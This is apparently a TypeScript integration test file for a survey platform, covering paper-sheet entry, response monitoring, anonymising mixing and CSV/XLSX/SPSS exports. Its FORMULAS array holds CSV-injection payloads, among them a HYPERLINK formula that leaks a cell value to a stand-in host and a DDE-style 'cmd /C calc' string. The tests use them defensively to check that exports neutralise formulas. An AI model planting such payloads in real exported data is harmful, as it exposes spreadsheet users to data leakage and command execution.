import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { sql } from 'drizzle-orm';
import JSZip from 'jszip';
import { parseCsvRows } from '../../../lib/csv.js';
import { createTestApp, loginAs, roleCaller, type TestApp } from '../../../../test/helpers.js';
import { newProject, openFieldPhase } from './factories.js';
import { mixPool } from '../mixing.js';

// Free-text answers that spreadsheet software would run as formulas (CSV injection).
const FORMULAS = ['=HYPERLINK("https://example.org/?d="&A1,"Klick")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '+49 351 123'];
let t: TestApp;
let call: Awaited<ReturnType<typeof roleCaller>>;
let codes: string[] = [];
let id = '';
beforeAll(async () => {
  // Mixing by hand here (mixPool), so the job's interval is set beyond the test.
  t = await createTestApp({ SURVEY_RATE_LIMIT: '1000', SURVEY_MIX_INTERVAL_SECONDS: '3600' });
  call = await roleCaller(t.app, ['lpr_staff', 'analyst', 'commune']);
  const lpr = await loginAs(t.app, 'lpr_staff');
  id = await newProject(t, lpr);
  codes = await openFieldPhase(t, lpr, id, 40);
  for (const [i, code] of codes.slice(0, 10).entries()) {
    await call(null, 'POST', '/api/public/survey/submit', { code, submissionId: randomUUID(), answers: { AF01: (i % 4) + 1, ME01: [1, 3], IN01: { IN01_a: 2 }, PS01: { PS01_a: 9 }, ME02: FORMULAS[i] ?? 'Mehr Licht; "bitte"', SD03: 1 } });
  }
});
afterAll(async () => { await t?.close(); });

describe('paper entry', () => {
  it('stores a single-keyed sheet at once and marks its code used', async () => {
    const res = await call('lpr_staff', 'POST', `/api/analyses/${id}/paper-entries`, { sheetNo: 'P-001', code: codes[20], answers: { AF01: 2, SD03: 3 } });
    expect(res.statusCode).toBe(201);
    expect(res.json().status).toBe('stored');
    expect((await call(null, 'POST', '/api/public/survey/open', { code: codes[20] })).statusCode).toBe(409);
    const again = await call('lpr_staff', 'POST', `/api/analyses/${id}/paper-entries`, { sheetNo: 'P-001', answers: { AF01: 2 } });
    expect(again.statusCode).toBe(409);
    expect(again.json().code).toBe('sheet_already_entered');
  });

  it('compares a double entry and reports mismatches; the checked keying is stored', async () => {
    const first = await call('lpr_staff', 'POST', `/api/analyses/${id}/paper-entries`, { sheetNo: 'P-002', answers: { AF01: 3, IN01: { IN01_a: 1, IN01_b: 4 } }, doubleEntry: true });
    expect(first.json()).toMatchObject({ status: 'awaiting_second' });
    const second = await call('lpr_staff', 'POST', `/api/analyses/${id}/paper-entries`, { sheetNo: 'P-002', answers: { AF01: 3, IN01: { IN01_a: 1, IN01_b: 3 } }, doubleEntry: true });
    expect(second.json()).toEqual({ status: 'mismatch', mismatches: [{ field: 'IN01.IN01_b', first: 4, second: 3 }] });
    expect((await call('lpr_staff', 'GET', `/api/analyses/${id}/paper-entries`)).json().pending).toMatchObject([{ sheetNo: 'P-002', status: 'mismatch' }]);
    const resolved = await call('lpr_staff', 'POST', `/api/analyses/${id}/paper-entries`, { sheetNo: 'P-002', answers: { AF01: 3, IN01: { IN01_a: 1, IN01_b: 4 } }, doubleEntry: true });
    expect(resolved.json().status).toBe('stored');
    const same = [1, 2].map(() => ({ sheetNo: 'P-003', answers: { AF01: 1 }, doubleEntry: true }));
    expect((await call('lpr_staff', 'POST', `/api/analyses/${id}/paper-entries`, same[0])).json().status).toBe('awaiting_second');
    expect((await call('lpr_staff', 'POST', `/api/analyses/${id}/paper-entries`, same[1])).json().status).toBe('stored');
    const bad = await call('lpr_staff', 'POST', `/api/analyses/${id}/paper-entries`, { sheetNo: 'P-004', answers: { AF01: 5 } });
    expect(bad.statusCode).toBe(422);
  });
});

describe('field monitoring', () => {
  it('shows returns per day and stratum and the response rate, also to the commune', async () => {
    const waiting = (await call('commune', 'GET', `/api/analyses/${id}/monitoring`)).json();
    expect(waiting).toMatchObject({ invited: 40, returned: 13, codesUsed: 11, withoutCode: 2, byDay: [], mixing: { threshold: 10, waiting: 13, mixed: 0 } });
    // What the mixing job does once at least k answers wait.
    expect(await mixPool(t.database.db, id)).toMatchObject({ mixed: 13, batch: 1 });
    const m = (await call('commune', 'GET', `/api/analyses/${id}/monitoring`)).json();
    expect(m).toMatchObject({ invited: 40, returned: 13, codesUsed: 11, withoutCode: 2, mixing: { threshold: 10, waiting: 0, mixed: 13, batches: 1 } });
    expect(m.responseRate).toBeCloseTo(13 / 40);
    expect(m.byDay).toHaveLength(1);
    expect(m.byDay[0]).toMatchObject({ online: 10, paper: 3, cumulative: 13 });
    expect(m.byStratum.reduce((s: number, x: { returned: number }) => s + x.returned, 0)).toBe(11);
  });
});

describe('exports', () => {
  it('gives CSV with one column per variable, an XLSX with codebook, and SPSS label syntax, only to analysis and LPR', async () => {
    const csv = await call('lpr_staff', 'GET', `/api/analyses/${id}/export?format=csv`);
    const lines = csv.body.replace(/^\uFEFF/, '').trim().split('\n');
    expect(lines).toHaveLength(14);
    const header = lines[0]!.split(';');
    expect(header.slice(0, 4)).toEqual(['lfd', 'modus', 'datum', 'fassung']);
    for (const v of ['AF01', 'IN01_a', 'PS01_d', 'ME01_1', 'ME01_8', 'FP01_n', 'FP01_5_zeit', 'SD03']) expect(header).toContain(v);
    expect(csv.body).toContain('"Mehr Licht; ""bitte"""');
    // Formula-like text leaves with a quote in front, quoted; numbers stay plain numbers.
    expect(csv.body).toContain(`;"'=HYPERLINK(""https://example.org/?d=""&A1,""Klick"")";`);
    const rows = parseCsvRows(csv.body.replace(/^\uFEFF/, ''), ';');
    const at = (name: string) => rows[0]!.indexOf(name);
    const me02 = rows.slice(1).map((r) => r[at('ME02')]!);
    for (const f of FORMULAS) expect(me02).toContain(`'${f}`);
    expect(me02.filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
    expect(rows.slice(1).map((r) => r[at('lfd')])).toEqual(Array.from({ length: 13 }, (_, i) => String(i + 1)));
    expect(rows.slice(1).filter((r) => r[at('modus')] === '1').every((r) => /^[1-4]$/.test(r[at('AF01')]!))).toBe(true);
    const wb = new ExcelJS.Workbook();
    const xlsx = (await call('lpr_staff', 'GET', `/api/analyses/${id}/export?format=xlsx`)).rawPayload;
    await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Antworten', 'Codebuch']);
    const sheet = wb.getWorksheet('Antworten')!;
    expect(sheet.rowCount).toBe(14);
    // In the workbook the same text is a text cell, never a formula; the scale answers are numbers.
    const col = (name: string) => (sheet.getRow(1).values as string[]).indexOf(name);
    const data = Array.from({ length: 13 }, (_, i) => sheet.getRow(i + 2));
    const texts = data.map((r) => r.getCell(col('ME02')));
    expect(texts.map((c) => c.value)).toEqual(expect.arrayContaining(FORMULAS));
    expect(texts.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
    expect(data.filter((r) => r.getCell(col('modus')).value === 1).every((r) => typeof r.getCell(col('AF01')).value === 'number')).toBe(true);
    const sheetXml = await (await JSZip.loadAsync(xlsx)).file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheetXml).not.toContain('<f>');
    const codebook = (await call('lpr_staff', 'GET', `/api/analyses/${id}/export?format=codebook`)).body;
    expect(codebook).toContain('AF01;Wie sicher fühlen Sie sich, wenn Sie nachts allein in Ihrer Wohngegend unterwegs sind?;Zahl;"1=sehr sicher; 2=ziemlich sicher');
    const sps = (await call('lpr_staff', 'GET', `/api/analyses/${id}/export?format=sps`)).body;
    expect(sps).toContain('VALUE LABELS');
    expect(sps).toContain('/AF01 1 "sehr sicher" 2 "ziemlich sicher" 3 "ziemlich unsicher" 4 "sehr unsicher"');
    expect(sps).toContain('MISSING VALUES PS01_a (9)');
    expect((await call('commune', 'GET', `/api/analyses/${id}/export?format=csv`)).statusCode).toBe(403);
  });

  it('closes the field phase; later submissions are refused', async () => {
    const res = await call('lpr_staff', 'POST', `/api/analyses/${id}/field-phase/close`);
    expect(res.json().phases.find((p: { key: string }) => p.key === 'field').status).toBe('done');
    expect((await call(null, 'POST', '/api/public/survey/submit', { code: codes[30], submissionId: randomUUID(), answers: {} })).statusCode).toBe(410);
    // Nothing waits in the pool; the close still moves the used codes to the code table, in one transaction
    // (the job the close sent does it, or this call, whichever comes first).
    await mixPool(t.database.db, id);
    const n = async (query: ReturnType<typeof sql>) => ((await t.database.db.execute(query)) as unknown as { rows: { n: number }[] }).rows[0]!.n;
    expect(await n(sql`select count(*)::int as n from access_codes where project_id = ${id} and used`)).toBe(11);
    expect(await n(sql`select count(*)::int as n from survey_used_codes where project_id = ${id}`)).toBe(0);
    expect(await n(sql`select count(distinct xmin::text)::int as n from access_codes where project_id = ${id} and used`)).toBe(1);
    const m = (await call('lpr_staff', 'GET', `/api/analyses/${id}/monitoring`)).json();
    expect(m).toMatchObject({ returned: 13, codesUsed: 11 });
  });
});
